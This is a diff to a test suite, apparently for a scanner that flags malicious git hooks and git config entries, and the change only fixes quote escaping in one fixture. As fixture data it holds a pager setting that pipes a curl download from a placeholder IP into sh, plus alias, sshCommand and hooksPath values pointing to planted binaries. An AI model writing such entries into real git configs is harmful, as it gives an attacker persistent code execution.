@@ -11,7 +11,7 @@ tellsOf(gitHooks, {
     'a hook of a repository': { files: { [`${repo}/hooks/post-merge`]: evil }, finds: [`intrusion critical ${repo}/hooks/post-merge`] },
     'a hook of a bare one': { files: { '/home/git/app.git/hooks/post-receive': evil }, finds: ['intrusion critical /home/git/app.git/hooks/post-receive'] },
     'a hook of the template': { files: { '/usr/share/git-core/templates/hooks/pre-commit': evil }, finds: ['intrusion critical /usr/share/git-core/templates/hooks/pre-commit'] },
-    'a watcher of files': { files: { [`${repo}/config`]: '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"/tmp/.fs/w\"\n' }, finds: [`intrusion high ${repo}/config`] },
+    'a watcher of files': { files: { [`${repo}/config`]: '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "/tmp/.fs/w"\n' }, finds: [`intrusion high ${repo}/config`] },
     'a pager, an alias and a connection': { files: { '/home/lin/.gitconfig': '[core]\n pager = sh -c \\"curl http://203.0.113.6/p | sh\\"\n[alias]\n st = !/dev/shm/st\n[core]\n sshCommand = /var/tmp/ssh -q\n' }, finds: ['intrusion high /home/lin/.gitconfig', 'intrusion high /home/lin/.gitconfig', 'intrusion high /home/lin/.gitconfig'] },
     'hooks for all repositories': { files: { '/etc/gitconfig': '[core]\n\thooksPath = /usr/share/gh\n', '/usr/share/gh/pre-push': evil }, finds: ['intrusion critical /etc/gitconfig'] },
   },
